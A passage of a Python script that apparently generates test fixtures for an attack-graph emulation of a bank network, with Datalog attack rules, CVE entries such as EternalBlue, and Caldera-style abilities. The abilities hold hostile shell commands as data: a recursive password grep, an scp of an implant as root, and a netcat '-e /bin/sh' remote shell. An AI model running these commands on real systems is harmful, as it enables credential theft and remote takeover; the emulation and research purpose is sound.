        {"name": "hr", "vlan": 130, "members": members(("hr-pc-",))},
        {"name": "marketing", "vlan": 140, "members": members(("marketing-pc-",))},
        {"name": "accounting", "vlan": 150, "members": members(("accounting-pc-",))},
        {"name": "branch", "vlan": 160, "members": members(("teller-pc-",))},
        {"name": "dmz", "vlan": 200, "members": members(("web-", "mail", "dns-dmz", "proxy"))},
        {"name": "datacenter", "vlan": 300,
         "members": members(("dc-", "file-", "db-", "backup-", "siem", "printer-"))},
    ]
    if extra_nodes:
        subnets.append({"name": "expansion", "vlan": 400, "members": members(("xl-host-",))})
    topo = {
        "nodes": n.nodes,
        "interfaces": n.interfaces,
        "links": n.links,
        "software": [
            {"node": "cameraA", "software": "arpd", "version": "ver1"},
            {"node": "cameraA", "software": "sshd", "version": "ver1"},
            {"node": "DVR", "software": "smbV1", "version": "ver1"},
        ],
        "services": [
            {"node": "DVR", "software": "arpd", "protocol": "tcp", "port": "445", "account": "root"},
            {"node": "DVR", "software": "smbV1", "protocol": "tcp", "port": "445", "account": "root"},
            {"node": "DVR", "software": "sshd", "protocol": "tcp", "port": "445", "account": "root"},
            {"node": "cameraA", "software": "arpd", "protocol": "tcp", "port": "22", "account": "root"},
            {"node": "cameraA", "software": "sshd", "protocol": "tcp", "port": "22", "account": "root"},
        ],
        "acls": [{"src": "adminPC1", "dst": "cameraA", "protocol": "tcp", "port": "22"}],
        "subnets": subnets,
        "flows": [
            {"name": "cctv-stream", "src": "cameraA", "dst": "DVR", "direction": "outbound"},
            {"name": "admin-ssh", "src": "adminPC1", "dst": "cameraA", "direction": "outbound"},
        ],
        "data_bindings": [{"flow": "cctv-stream", "host": "DVR", "path": "/srv/dvr/recordings"}],
    }
    return topo, twin


BANK_RULES = [
    ("T1552.001", "bank_t1552_001_credentials_in_files.P", [
        (6, "Net direct access",
         "netAccess(P,H1,H2,Proto,Port) :-\n    hasAccess(P,H1,H2,Proto,Port),\n    hacl(H1,H2,Proto,Port)."),
        (9, "Privilege escalation using setuid program",
         "localAccess(P,H,root) :-\n    malicious(P),\n    networkService(H,Sw,tcp,Port,root),\n    setuidProgram(H,Sw)."),
        (11, "Valid file protection mechanism",
         "localFileProtection(H,File,Owner,Access) :-\n    ownerAccessible(H,Access,File),\n    fileOwner(H,File,Owner)."),
        (10, "Valid file protection mechanism",
         "accessFile(P,H,Owner,Access,File) :-\n    localAccess(P,H,Owner),\n    localFileProtection(H,File,Owner,Access)."),
        (13, "Credentials in files",
         "credentialsAccessInFiles(Sw,Admin) :-\n    accessFile(P,H,root,read,'/etc/shadow'),\n"
         "    networkService(H,Sw,tcp,Port,root),\n    hacl(Admin,H,tcp,Port)."),
    ]),
    ("T1105", "bank_t1105_ingress_tool_transfer.P", [
        (8, "Local access grants code execution", "execCode(P,H,Acct) :-\n    localAccess(P,H,Acct)."),
        (19, "Can access to the local file on the host",
         "dataInject(P,H,File,Payload,Port) :-\n    accessFile(P,H,Owner,read,File),\n    toolPayload(P,Payload),\n"
         "    networkService(H,Sw,tcp,Port,Owner)."),
        (17, "Net access hop",
         "ingressToolTransfer(Sw,P,H,Payload,Port) :-\n    netAccess(P,Admin,H,tcp,Port),\n"
         "    networkService(H,Sw,tcp,Port,root),\n    dataInject(P,H,File,Payload,Port),\n"
         "    credentialsAccessInFiles(Sw,Admin)."),
        (16, "compromised host 'cameraA'",
         "compromised(H) :-\n    ingressToolTransfer(Sw,P,H,Payload,Port),\n    maliciousInteraction(H,P,Sw),\n"
         "    residesOn(H,Sw,Ver),\n    vulExists(Cve,Sw,Ver,network,caLoss,critical),\n    deviceOnline(H,Os)."),
    ]),
    ("T1059.004", "bank_t1059_004_unix_shell.P", [
        (14, "Man in the middle between endpoints",
         "mitmE2E(P,Admin,H,Target,Proto,Port) :-\n    execCode(P,H,root),\n    netAccess(P,Admin,H,Proto,Port),\n"
         "    dataFlow(H,Target,Flow,Dir)."),
        (24, "Exploit EternalBlue from cameraA to DVR",
         "execDelegatedCode(P,H,Target,Acct) :-\n    compromised(H),\n    hasAccess(P,H,Target,tcp,Port),\n"
         "    networkService(Target,Sw,tcp,Port,Acct),\n    vulExists(Cve,Sw,Ver,network,caLoss,critical)."),
        (25, "Exploit EternalBlue from cameraA to DVR",
         "fullCampaign(P,Admin,H,Target) :-\n    execDelegatedCode(P,H,Target,root),\n"
         "    mitmE2E(P,Admin,H,Target,tcp,Port)."),
    ]),
]

BANK_GOAL = atom("fullCampaign", "attacker", "adminPC1", "cameraA", "DVR")


def bank_assumptions(others):
    base = [
        atom("hasAccess", "attacker", "cameraA", "DVR", "tcp", "445"),
        atom("hasAccess", "attacker", "adminPC1", "cameraA", "tcp", "22"),
        atom("malicious", "attacker"),
        atom("setuidProgram", "cameraA", "arpd"),
        atom("setuidProgram", "cameraA", "sshd"),
        atom("ownerAccessible", "cameraA", "read", "/etc/shadow"),
        atom("fileOwner", "cameraA", "/etc/shadow", "root"),
        atom("toolPayload", "attacker", "dvr-implant"),
        atom("maliciousInteraction", "cameraA", "attacker", "arpd"),
        atom("maliciousInteraction", "cameraA", "attacker", "sshd"),
        atom("deviceOnline", "cameraA", "Linux"),
    ]
    hosts = [h for h in others if h.startswith(("hr-pc-", "marketing-pc-", "accounting-pc-", "teller-pc-", "dc-", "db-"))]
    makers = [
        lambda h: atom("deviceOnline", h, "Windows"),
        lambda h: atom("ownerAccessible", h, "read", "C:/Users/Public/passwords.txt"),
        lambda h: atom("fileOwner", h, "C:/Users/Public/passwords.txt", "Administrator"),
        lambda h: atom("maliciousInteraction", h, "phisher", "outlook"),
        lambda h: atom("setuidProgram", h, "spoolsv"),
        lambda h: atom("hasAccess", "insider", h, "dc-1", "tcp", "389"),
    ]
    out = list(base)
    i = 0
    while len(out) < 43:
        a = makers[i % len(makers)](hosts[(i * 3) % len(hosts)])
        if a not in out:
            out.append(a)
        i += 1
    assert len(out) == 43 and len(set(out)) == 43
    return out


BANK_ABILITIES = [
    {"name": "Retrieve Password", "ability_number": "a1b2c3d4-0001-4e5f-8a9b-1552a0000001",
     "technique": "T1552.001", "technique_name": "Unsecured Credentials: Credentials In Files",
     "description": "Search readable files for stored credentials.", "type": "credential_access",
     "tags": ["credential_access"], "platform": "linux", "executor": "sh",
     "command": "grep -ri password /home /etc 2>/dev/null | tee /tmp/#{host.name}-creds"},
    {"name": "Transfer File", "ability_number": "a1b2c3d4-0002-4e5f-8a9b-1105a0000002",
     "technique": "T1105", "technique_name": "Ingress Tool Transfer",
     "description": "Copy the implant onto the target.", "type": "command_and_control",
     "tags": ["ingress_tool_transfer"], "platform": "linux", "executor": "sh",
     "command": "scp dvr-implant root@#{host.ip}:/tmp/ -P #{service.port}"},
    {"name": "Remote Shell", "ability_number": "a1b2c3d4-0003-4e5f-8a9b-1059a0000003",
     "technique": "T1059.004", "technique_name": "Command and Scripting Interpreter: Unix Shell",
     "description": "Run a shell on the DVR through the SMB exploit.", "type": "execution",
     "tags": ["execution"], "platform": "linux", "executor": "bash",
     "command": "bash -c 'nc #{host.ip} #{service.port} -e /bin/sh'"},
    {"name": "Full Bank Abuse Elevation of Privilege (Bypass UAC Medium)",
     "ability_number": "e3db134c-4aed-4c5a-9607-c50183c9ef9e", "technique": "T1548.002",
     "technique_name": "Abuse Elevation of Privilege",
     "description": "Abuse Elevation of Privilege to gain higher privileges.", "type": "manual",
     "tags": ["privilege_escalation", "abuse_elevation_of_privilege"], "platform": "windows", "executor": "psh",
     "command": "Start-Process cmd -Verb runAs"},
]

BANK_SCENARIO_STEPS = [
    ("T1552.001", atom("credentialsAccessInFiles", "arpd", "adminPC1"), "adminPC1"),
    ("T1105", "ingressToolTransfer(arpd,attacker,cameraA,_,'22')", "cameraA"),
    ("T1059.004", BANK_GOAL, "DVR"),
]


def write_bank(name, extra_nodes=0, isolated=0):
    root = os.path.join(HERE, name)
    topo, twin = bank_topology(extra_nodes, isolated)
    others = [n["id"] for n in topo["nodes"] if n["id"] not in twin]
    if extra_nodes == 0:
        pad_acls(topo, 164, [h for h in others if h.startswith(("hr-pc-", "dc-", "db-", "web-", "teller-pc-"))],
                 {"cameraA"})
    else:
        base, _ = bank_topology()
        pad_acls(base, 164, [h for h in base_others() if h.startswith(("hr-pc-", "dc-", "db-", "web-", "teller-pc-"))],
                 {"cameraA"})
        topo["acls"] = base["acls"]
        assert len(topo["nodes"]) == 1471 and len(topo["links"]) == 1469
    write(os.path.join(root, "topology.json"), json.dumps(topo, indent=2) + "\n")
    write(os.path.join(root, "vulns.csv"), csv_text(
        ["cve_id", "software", "version", "access_vector", "lose_types", "severity"],
        [["arpSpoofVuln", "arpd", "ver1", "network", "caLoss", "critical"],
         ["sshdSpoofVuln", "sshd", "ver1", "network", "caLoss", "critical"],
         ["cve_2017_0144", "smbV1", "ver1", "network", "caLoss", "critical"],
         ["cve-2019-0708", "rdp", "10.0", "network", "codeExec", "critical"]]))
    ir_rows = write_irs(root, "bank", [(tech, rules) for tech, _, rules in BANK_RULES], shared={10: 11})
    assert len(ir_rows) == 11
    write(os.path.join(root, "rules", "zz_goal.P"), f"attackGoal({BANK_GOAL}).\n")
    write(os.path.join(root, "map_irs.csv"), csv_text(["technique_id", "ir_file"], ir_rows))
    write(os.path.join(root, "assumptions.P"), "\n".join(a + "." for a in bank_assumptions(others)) + "\n")
    write(os.path.join(root, "abilities.yml"), abilities_yaml(BANK_ABILITIES))
    write(os.path.join(root, "map_abilities.csv"), csv_text(
        ["technique_id", "ability_number"], [[a["technique"], a["ability_number"]] for a in BANK_ABILITIES]))
    write(os.path.join(root, "scenario.yml"), scenario_yaml("bank_floor4_op", BANK_SCENARIO_STEPS))
    write(os.path.join(root, "templates.json"), json.dumps(TEMPLATES, indent=2) + "\n")
    write(os.path.join(root, "faults.json"), json.dumps({"seed": 11}, indent=2) + "\n")
    write(os.path.join(root, "full_trace.csv"), trace_csv(40.77, 2.397, 1048576, 337, 8))
    write(os.path.join(root, "twin_trace.csv"), trace_csv(21.00, 0.809, 1048576, 252, 8))


def base_others():
    topo, twin = bank_topology()
    return [n["id"] for n in topo["nodes"] if n["id"] not in twin]


def main():
    write_uk()
    write_bank("bank")
    write_bank("bank_xl", extra_nodes=1373, isolated=3)
    return 0


if __name__ == "__main__":
    sys.exit(main())
